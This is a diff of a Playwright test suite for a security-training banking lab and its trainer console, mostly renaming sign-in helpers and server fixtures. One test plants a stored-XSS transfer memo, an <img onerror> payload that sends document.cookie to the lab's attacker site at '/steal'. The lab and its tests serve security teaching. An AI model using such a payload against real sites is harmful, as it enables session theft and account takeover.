@@ -7,17 +7,17 @@
 // request of every browser meets it, the banner included. The attacker's site is another site
 // (127.0.0.1); its captures reach the console's inbox through a same-origin route.
 import { request as playwrightRequest, type Browser, type BrowserContext, type Page } from "@playwright/test";
-import { startAttackerSite, type AttackerSite } from "../scripts/attacker-site";
+import { type AttackerSite } from "../scripts/attacker-site";
 import { labKeyUrl } from "@/lib/lab/key";
 import { expectAccessible } from "./support/accessibility";
-import { freePort, startOwnServer, type DirectServer } from "./support/direct-server";
+import { type OwnServer } from "./support/direct-server";
 import {
   accountLink,
   expect,
   fillTransfer,
   SESSION_COOKIE,
   sessionCookieValue,
-  signIn,
+  signInWithForm,
   test,
 } from "./support/fixtures";
 import { serverUrl } from "./support/servers";
@@ -61,26 +61,15 @@ test.describe("the lab console on a lab server", () => {
   // One lab server and attacker's site for the group; the tests run in order on its switches.
   // Each drives two or three browsers through real sign-ins (bcrypt at its real cost).
   test.describe.configure({ mode: "default", timeout: 90_000 });
-  let server: DirectServer;
+  let server: OwnServer;
   let attacker: AttackerSite;
   let contexts: BrowserContext[] = [];
 
-  test.beforeAll(async ({}, testInfo) => {
+  // The group's helpers below reach the lab server and the attacker's site through these.
+  test.beforeAll(async ({ ownServer }, testInfo) => {
     testInfo.setTimeout(120_000);
-    const port = await freePort();
-    attacker = await startAttackerSite({ port: 0, bankUrl: `http://localhost:${port}` });
-    server = await startOwnServer({
-      name: "lab",
-      database: "sqlite",
-      port,
-      flaws: "",
-      lab: true,
-      env: { LAB_ATTACKER_URL: attacker.url },
-    });
-  });
-  test.afterAll(async () => {
-    await server?.stop();
-    await attacker?.close();
+    server = await ownServer({ name: "lab", database: "sqlite", flaws: "", lab: true, attackerSite: true });
+    attacker = server.attacker!;
   });
   test.afterEach(async ({ browser }) => {
     const trainer = await openConsole(browser);
@@ -110,7 +99,7 @@ test.describe("the lab console on a lab server", () => {
   }) => {
     const trainer = await openConsole(browser);
     const victim = await browserWindow(browser);
-    await signIn(victim, BOB);
+    await signInWithForm(victim, BOB);
     await expect(banner(victim)).toBeHidden();
     expect(await scriptCanReadSession(victim)).toBe(false);
 
@@ -119,13 +108,13 @@ test.describe("the lab console on a lab server", () => {
     await victim.reload();
     await expect(banner(victim)).toContainText("readable-cookie");
     // HttpOnly is decided when a cookie is issued: the next sign-in's cookie is readable.
-    await signIn(victim, BOB);
+    await signInWithForm(victim, BOB);
     expect(await scriptCanReadSession(victim)).toBe(true);
 
     await toggle(trainer, "readable-cookie", false);
     await victim.reload();
     await expect(banner(victim)).toBeHidden();
-    await signIn(victim, BOB);
+    await signInWithForm(victim, BOB);
     expect(await scriptCanReadSession(victim)).toBe(false);
   });
 
@@ -151,14 +140,14 @@ test.describe("the lab console on a lab server", () => {
     // Mallory pays Alice a dollar; the memo is the payload (an <img>'s handler runs wherever the
     // markup lands, a <script> only in a page's first HTML).
     const mallory = await browserWindow(browser);
-    await signIn(mallory, MALLORY);
+    await signInWithForm(mallory, MALLORY);
     const payload = `<img src=x onerror="new Image().src='${attacker.url}/steal?c='+encodeURIComponent(document.cookie)">`;
     await fillTransfer(mallory, { accountNumber: ALICE.accountNumber }, "1.00", payload);
     await mallory.getByRole("button", { name: "Send transfer" }).click();
     await expect(mallory).toHaveURL(/\/transfers\/\w+/);
 
     const victim = await browserWindow(browser);
-    await signIn(victim, ALICE);
+    await signInWithForm(victim, ALICE);
     await accountLink(victim, /Checking/).click();
 
     // (Mallory's own receipt ran the memo too: her own cookie is in the inbox first.)
@@ -173,7 +162,7 @@ test.describe("the lab console on a lab server", () => {
   test("time travel: every session idle past the high tier, so the transfer page signs out", async ({ browser }) => {
     const trainer = await openConsole(browser);
     const victim = await browserWindow(browser);
-    await signIn(victim, BOB);
+    await signInWithForm(victim, BOB);
     await trainer.getByRole("button", { name: /Every session idle past the high tier/ }).click();
     await expect(trainer.getByRole("status")).toContainText("idle past the high tier");
     await victim.goto("/transfers");
@@ -183,7 +172,7 @@ test.describe("the lab console on a lab server", () => {
   test("reset restores the demo data, ends every session and empties the inbox", async ({ browser }) => {
     const trainer = await openConsole(browser);
     const victim = await browserWindow(browser);
-    await signIn(victim, BOB);
+    await signInWithForm(victim, BOB);
     await fillTransfer(victim, { accountNumber: "VL-1001-0001" }, "100.00");
     await victim.getByRole("button", { name: "Send transfer" }).click();
     await expect(victim).toHaveURL(/\/transfers\/\w+/);
@@ -218,7 +207,13 @@ test.describe("the lab console on a lab server", () => {
     await expectAccessible(trainer, "lab console");
   });
 
-  test("a forged switch on a server that is not a lab changes nothing", async ({ browser, page, db, user }) => {
+  test("a forged switch on a server that is not a lab changes nothing", async ({
+    browser,
+    page,
+    db,
+    user,
+    signInAs,
+  }) => {
     test.skip(!!process.env.MUTATE_FLAWS, "MUTATE_FLAWS makes the secure server a lab");
     // A real switch, as the console's page sends it (a fetch naming the action), captured on a
     // lab: the same build runs everywhere, so the same request means the same action anywhere.
@@ -246,7 +241,8 @@ test.describe("the lab console on a lab server", () => {
       await secure.dispose();
     }
     expect(await db.labFlaw.count(), "nothing was written").toBe(0);
-    await signIn(page, user);
+    await signInAs(page, user);
+    await page.goto("/dashboard");
     expect(await scriptCanReadSession(page), "the cookie is still HttpOnly").toBe(false);
 
     // The form post is well-formed: on the lab it does switch.
